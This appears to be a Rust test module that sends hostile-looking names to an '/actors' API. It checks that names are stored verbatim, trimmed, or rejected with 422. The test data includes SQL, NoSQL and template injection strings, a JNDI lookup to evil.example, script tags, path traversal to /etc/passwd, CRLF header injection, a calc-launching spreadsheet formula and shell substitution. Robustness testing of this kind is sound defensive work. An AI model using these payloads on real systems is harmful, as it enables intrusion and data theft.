//! Texts that mean something to some program, or that look like something else. They are valid
//! names, and come back as they were sent.

use serde_json::json;

use super::{Change, HostileRequest};

pub(super) fn requests() -> Vec<HostileRequest> {
    let long = "𝕏".repeat(200);
    let zalgo = format!("Z{}", "\u{0335}\u{0321}\u{0302}".repeat(60));
    let accepted = [
        "' OR '1'='1",
        "Robert'); DROP TABLE actors;--",
        "#name",
        ":name",
        "#n = :n OR attribute_exists(id)",
        "SET #a = :b REMOVE id",
        r#"{"S": "x"}"#,
        r#"{"$where": "sleep(9)"}"#,
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "</script><!--",
        "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie:%20a=b",
        "%n%s%x",
        r"\u0000",
        r#"\"; x: ""#,
        "=cmd|' /C calc'!A0",
        "$(id) `id` | id",
        "null",
        "undefined",
        "NaN",
        "1e999",
        "true",
        "__proto__",
        "constructor",
        "a\u{202e}adI",
        "\u{2066}Ida\u{2069}\u{200f}",
        "\u{200b}",
        "I\u{200d}da",
        "\u{feff}Ida",
        "I\u{ad}da",
        "e\u{301}",
        "é",
        "ﬁ ﷺ Å K",
        "İıſß",
        "محمد",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "\u{fffd}\u{fffe}\u{10ffff}\u{e000}",
        "a\u{2028}b\u{2029}c",
        &zalgo,
        &long,
    ];
    let rejected = [
        "",
        " ",
        "\u{3000}\u{a0}\u{2003}",
        "\u{2028}",
        "a\0b",
        "a\nb",
        "a\r\nSet-Cookie: a=b",
        "\u{1b}[31mred",
        "a\u{7f}",
        "a\u{85}b",
        "a\u{9f}b",
        &"é".repeat(201),
        &"e\u{301}".repeat(101),
    ];
    let sent = |text: &str, status| {
        let description: String = text.chars().take(40).collect();
        let body = json!({"name": text, "age": 1, "gender": "f"}).to_string();
        HostileRequest::new(
            &format!("the name {description:?}"),
            "POST",
            "/actors",
            status,
        )
        .body(body)
    };
    let created = |request: HostileRequest, text: &str| {
        request.expect_change(Change::NewActor(
            json!({"name": text, "age": 1, "gender": "f"}),
        ))
    };
    let accepted = accepted.into_iter().flat_map(|text| {
        // Once as it is and once escaped; outside the first plane the escapes are surrogate pairs.
        let escaped: String = text
            .encode_utf16()
            .map(|unit| format!("\\u{unit:04x}"))
            .collect();
        let escaped = sent(text, 200).body(format!(
            r#"{{"name": "{escaped}", "age": 1, "gender": "f"}}"#
        ));
        [created(sent(text, 200), text), created(escaped, text)]
    });
    let trimmed = ["  Ida ", "\u{3000}Ida\u{a0}\r\n", "\u{2028}Ida\u{85}"]
        .map(|text| created(sent(text, 200), "Ida"));
    accepted
        .chain(trimmed)
        .chain(rejected.map(|text| sent(text, 422)))
        .collect()
}
